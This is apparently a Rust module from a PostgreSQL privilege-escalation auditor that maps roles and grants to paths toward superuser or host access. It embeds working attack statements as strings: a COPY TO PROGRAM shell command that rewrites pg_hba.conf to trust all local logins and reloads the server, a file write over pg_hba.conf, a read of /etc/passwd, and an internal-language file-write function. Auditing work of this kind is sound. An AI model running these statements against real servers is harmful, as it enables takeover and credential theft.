//! Ways that lead to the server itself: superusers, the account that it runs under, its files, copies of it.

use super::{Here, is, on};
use crate::phases::sql;
use crate::quote::{identifier, literal};
use crate::rules::{parameter_meaning, reaches_server};
use crate::words::{attribute, kind, operation};
use model::{
    Certainty, Escalation, From, Gain, LOGIN, Name, Object, Observed, Operation, Permission, Place, RoleName,
};
use std::collections::BTreeSet;
use std::sync::Arc;

/// Opens the door to everybody who is on the server's machine, and lets the server read that.
const OPEN_THE_DOOR: &str =
    "cat >/dev/null; sed -i '1ilocal all all trust' pg_hba.conf && kill -HUP $(head -n 1 postmaster.pid)";

/// What holds in every database alike.
pub(super) fn of_cluster(observed: &Observed, all: &mut Vec<Escalation>) {
    let step = |from, gain, certainty, because: String, statements| Escalation {
        from,
        gain,
        certainty,
        database: None,
        because,
        statements,
    };
    for role in observed.access.roles.keys() {
        if is(observed, role, &attribute::SUPERUSER) {
            let because = format!("{role} is a superuser: nothing is checked");
            all.push(step(
                From::Runs(role.clone()),
                Gain::Everything,
                Certainty::Direct,
                because,
                vec![raising()],
            ));
        } else if is(observed, role, &attribute::REPLICATION) && is(observed, role, &attribute::LOGIN) {
            let because = format!("{role} has replication, so it can copy the files of the whole cluster");
            let copies = ["\\connect -reuse-previous=on \"replication=true\"", "BASE_BACKUP"]
                .map(str::to_owned)
                .to_vec();
            all.push(step(From::LogsIn(role.clone()), Gain::Copy, Certainty::Direct, because, copies));
        }
        if is(observed, role, &attribute::REPLICATION) && !is(observed, role, &attribute::SUPERUSER) {
            let why = "wal_level has to be logical, and only what changes from then on is decoded";
            let because = format!("{role} has replication, so it can have every change decoded");
            let decodes = "SELECT pg_create_logical_replication_slot('…', 'test_decoding')".to_owned();
            let certainty = Certainty::Unknown(why.to_owned());
            all.push(step(From::Runs(role.clone()), Gain::Copy, certainty, because, vec![decodes]));
        }
    }
    let keys = [
        (
            "pg_execute_server_program",
            Gain::Host,
            "runs programs as the server's account",
            program(OPEN_THE_DOOR),
        ),
        (
            "pg_write_server_files",
            Gain::Host,
            "writes files as the server's account, also the one that says who may log in, which counts from the next \
             reload on",
            "COPY (SELECT 'local all all trust') TO '/…/pg_hba.conf'".to_owned(),
        ),
        (
            "pg_read_server_files",
            Gain::Files,
            "reads files as the server's account",
            "CREATE TEMPORARY TABLE lines (line text); COPY lines FROM '/etc/passwd'".to_owned(),
        ),
    ];
    for (key, gain, what, statement) in keys {
        let role = RoleName::new(key).ok().filter(|role| observed.access.roles.contains_key(role));
        if let Some(role) = role {
            let because = format!("{key} {what}");
            all.push(step(From::Uses(role), gain, Certainty::Direct, because, vec![statement]));
        }
    }
    onward(observed, all);
}

/// What follows from the server's account, its files and a copy of it.
fn onward(observed: &Observed, all: &mut Vec<Escalation>) {
    let mut step = |from, gain, certainty, because: &str, statements| {
        let (from, because) = (From::Gained(from), because.to_owned());
        all.push(Escalation { from, gain, certainty, database: None, because, statements });
    };
    let root = identifier(observed.at.root.as_str());
    let becomes = vec![format!("\\connect - {root}"), raising()];
    step(
        Gain::Host,
        Gain::Everything,
        Certainty::Direct,
        "the server's account decides who may log in as whom (pg_hba.conf), so also as a superuser",
        becomes,
    );
    step(Gain::Host, Gain::Files, Certainty::Direct, "the server's account reads the files", Vec::new());
    step(
        Gain::Copy,
        Gain::Verifiers,
        Certainty::Direct,
        "the copy has what is stored of passwords (pg_authid)",
        Vec::new(),
    );
    let unknown = |why: &str| Certainty::Unknown(why.to_owned());
    step(
        Gain::Verifiers,
        Gain::Everything,
        unknown("it depends on how good the passwords of superusers are"),
        "a password can be guessed from what is stored of it, as often as one likes",
        Vec::new(),
    );
    step(
        Gain::Files,
        Gain::Everything,
        unknown("it depends on what the files hold"),
        "files that the server's account reads may hold passwords and keys",
        Vec::new(),
    );
}

/// Whoever has code run as a login, or has become it, gives it a password, and begins a session as it: that becomes what the login may
/// become, and can copy the cluster.
pub(super) fn sessions(observed: &Observed, all: &mut Vec<Escalation>) {
    let run = all.iter().filter_map(|step| match (&step.from, &step.gain) {
        (from, Gain::Runs(role)) if *from != From::Runs(role.clone()) => Some(role.clone()),
        _ => None,
    });
    let mut roles: BTreeSet<RoleName> = run.collect();
    let copies = observed.access.roles.keys().filter(|role| is(observed, role, &attribute::REPLICATION));
    roles.extend(copies.cloned());
    roles.retain(|role| is(observed, role, &attribute::LOGIN) && !is(observed, role, &attribute::SUPERUSER));
    let why = "it depends on what pg_hba.conf asks of whoever logs in as it, and from where";
    all.extend(roles.into_iter().map(|role| {
        let name = identifier(role.as_str());
        Escalation {
            from: From::Runs(role.clone()),
            gain: Gain::Acts(role.clone()),
            certainty: Certainty::Unknown(why.to_owned()),
            database: None,
            because: format!("{role} gives itself a password, with which anybody can log in as it"),
            statements: vec![format!("ALTER ROLE {name} PASSWORD '…'"), format!("\\connect - {name}")],
        }
    }));
}

/// Whoever stands above every check puts the one who began there too.
fn raising() -> String {
    format!("ALTER ROLE {LOGIN} SUPERUSER")
}

fn program(command: &str) -> String {
    format!("COPY (SELECT) TO PROGRAM {}", literal(command))
}

/// What depends on a privilege, judged inside a database.
pub(super) fn inside(here: &Here<'_>, all: &mut Vec<Escalation>) {
    verifiers(here, all);
    languages(here, all);
    schedulers(here, all);
    for (object, acl) in &here.observed.access.entries {
        if object.kind == kind::ROUTINE && here.holds(object) {
            routine(here, object, all);
        } else if object.kind == kind::PARAMETER {
            for operation in [operation::SET, operation::ALTER_SYSTEM] {
                if acl.iter().any(|(_, held)| held.get(&operation).is_some()) {
                    parameter(here, object, operation, all);
                }
            }
        }
    }
}

/// Tables and views of the server's that show what is stored of passwords, and of those for other servers. Of a table one column
/// has it; the others are everybody's to read in some of them.
fn verifiers(here: &Here<'_>, all: &mut Vec<Escalation>) {
    let mut reads = |from: From, shown: &[Permission], gain: Gain, unsure: Option<&str>, because: String| {
        let statement =
            shown.iter().map(|one| super::perform::performing(here.observed, one)).take(1).collect();
        let certainty = unsure.map_or(Certainty::Direct, |unsure| Certainty::Unknown(unsure.to_owned()));
        let has = Escalation { certainty, ..here.step(from, gain, because, statement) };
        all.extend(shown.iter().map(|one| Escalation {
            from: From::Gained(Gain::Does(one.clone())),
            statements: Vec::new(),
            ..has.clone()
        }));
        all.push(has);
    };
    for (table, column) in [("pg_authid", "rolpassword"), ("pg_shadow", "passwd")] {
        let because = format!("{table} has what is stored of every password");
        let (from, shown) = shown_by(here, table, column);
        reads(from, &shown, Gain::Verifiers, None, because);
    }
    for (table, column) in [("pg_user_mapping", "umoptions"), ("pg_subscription", "subconninfo")] {
        let because = format!("{table} has passwords for other servers");
        let why = "it depends on which servers these passwords are for, which may be this one too";
        let (from, shown) = shown_by(here, table, column);
        reads(from, &shown, Gain::Everything, Some(why), because);
    }
    let views = here.observed.machinery.iter().flat_map(|machinery| &machinery.show_verifiers);
    for view in views.filter(|view| here.holds(view)) {
        let because = format!("{view} shows what is stored of passwords");
        let select = on(operation::SELECT, view);
        reads(here.has_part(&select), &[select], Gain::Verifiers, None, because);
    }
}

/// Who reads a column of the server's, and by which operations it is shown.
fn shown_by(here: &Here<'_>, table: &str, column: &str) -> (From, [Permission; 2]) {
    let of = |path: &[&str]| on(operation::SELECT, &in_catalogue(here, path));
    let part = of(&[table, column]);
    (here.has(std::slice::from_ref(&part)), [part, of(&[table])])
}

fn in_catalogue(here: &Here<'_>, path: &[&str]) -> Arc<Object> {
    let of = if path.len() > 1 { kind::COLUMN } else { kind::TABLE };
    let path = ["pg_catalog"].iter().chain(path).filter_map(|part| Name::new(*part).ok()).collect();
    Arc::new(Object::new(Place::Database(here.database.clone()), of, path))
}

/// A routine in a language that reaches around every check is made by whoever may use the language, if it is taken for one that
/// does not.
fn languages(here: &Here<'_>, all: &mut Vec<Escalation>) {
    let unconfined = here.observed.machinery.iter().flat_map(|machinery| &machinery.unconfined);
    for language in unconfined.filter(|language| here.holds(language)) {
        let name = sql::name(language);
        let because = format!("whoever may use {language} writes code that runs as the server's account");
        // A look leaves out what stands as initdb left it: open to everybody.
        let known = here.observed.access.owners.contains_key(language);
        let usage = known.then(|| on(operation::USAGE, language));
        let needs: Vec<_> = usage.into_iter().chain([super::lures::temporary(here)]).collect();
        let from = here.has(&needs);
        let step = if name == "internal" {
            let statements = vec![
                "CREATE FUNCTION pg_temp.writes(oid, text) RETURNS integer LANGUAGE internal AS 'be_lo_export'"
                    .to_owned(),
                "SELECT pg_temp.writes(…, '/…')".to_owned(),
            ];
            here.step(from, Gain::Host, because, statements)
        } else {
            let statements =
                vec![format!("CREATE FUNCTION pg_temp.runs() RETURNS void LANGUAGE {name} AS …")];
            let why = "it depends on which libraries are there".to_owned();
            let step = here.step(from, Gain::Host, because, statements);
            match name.as_str() {
                "c" => Escalation { certainty: Certainty::Unknown(why), ..step },
                _ => step,
            }
        };
        all.push(step);
    }
}

/// A scheduler's table says as whom a job runs.
fn schedulers(here: &Here<'_>, all: &mut Vec<Escalation>) {
    for path in [["cron", "job"], ["pgagent", "pga_jobstep"]] {
        let path = path.iter().filter_map(|part| Name::new(*part).ok()).collect();
        let table = Object::new(Place::Database(here.database.clone()), kind::TABLE, path);
        let known = here.observed.catalogue.objects.get_key_value(&table);
        for operation in [operation::INSERT, operation::UPDATE] {
            let Some((table, _)) = known else { continue };
            let writes = on(operation, table);
            let because = format!("{table} says what a scheduler runs, and as whom");
            let why =
                "it depends on which of its rows row security lets be written, and on who the scheduler is";
            let statements = vec![super::perform::performing(here.observed, &writes)];
            let has = here.step(here.has_part(&writes), Gain::Everything, because, statements);
            let gained =
                Escalation { from: From::Gained(Gain::Does(writes)), statements: Vec::new(), ..has.clone() };
            let certainty = || Certainty::Unknown(why.to_owned());
            all.extend([has, gained].map(|step| Escalation { certainty: certainty(), ..step }));
        }
    }
}

/// A function of the server or of an extension that reaches around it.
fn routine(here: &Here<'_>, object: &Arc<Object>, all: &mut Vec<Escalation>) {
    let Some(writes) = reaches_server(here.observed, object) else { return };
    let from = here.has(&[on(operation::EXECUTE, object)]);
    let call = vec![format!("SELECT {}", super::perform::call(object))];
    let connects = object.path.last().is_some_and(|name| name.as_str() == "dblink_connect_u");
    let because = format!("{object} reaches what the server's account reaches");
    let step = if connects {
        let certainty =
            Certainty::Unknown("it depends on whom the servers within reach let in unasked".to_owned());
        Escalation { certainty, ..here.step(from, Gain::Everything, because, call) }
    } else {
        here.step(from, if writes { Gain::Host } else { Gain::Files }, because, call)
    };
    all.push(step);
}

fn parameter(here: &Here<'_>, object: &Arc<Object>, operation: Operation, all: &mut Vec<Escalation>) {
    let name = object.path.iter().map(ToString::to_string).collect::<Vec<_>>().join(".");
    let Some(meaning) = parameter_meaning(&name, &operation) else { return };
    let lasting = operation == operation::ALTER_SYSTEM;
    let because = format!("whoever sets {name} {meaning}");
    let statement =
        if lasting { format!("ALTER SYSTEM SET {name} = …") } else { format!("SET {name} = …") };
    let from = here.has(&[on(operation, object)]);
    let why = "it depends on what can be loaded or run there, and when the server next reads its settings";
    let step = here.step(from, Gain::Host, because, vec![statement]);
    all.push(Escalation { certainty: Certainty::Unknown(why.to_owned()), ..step });
}
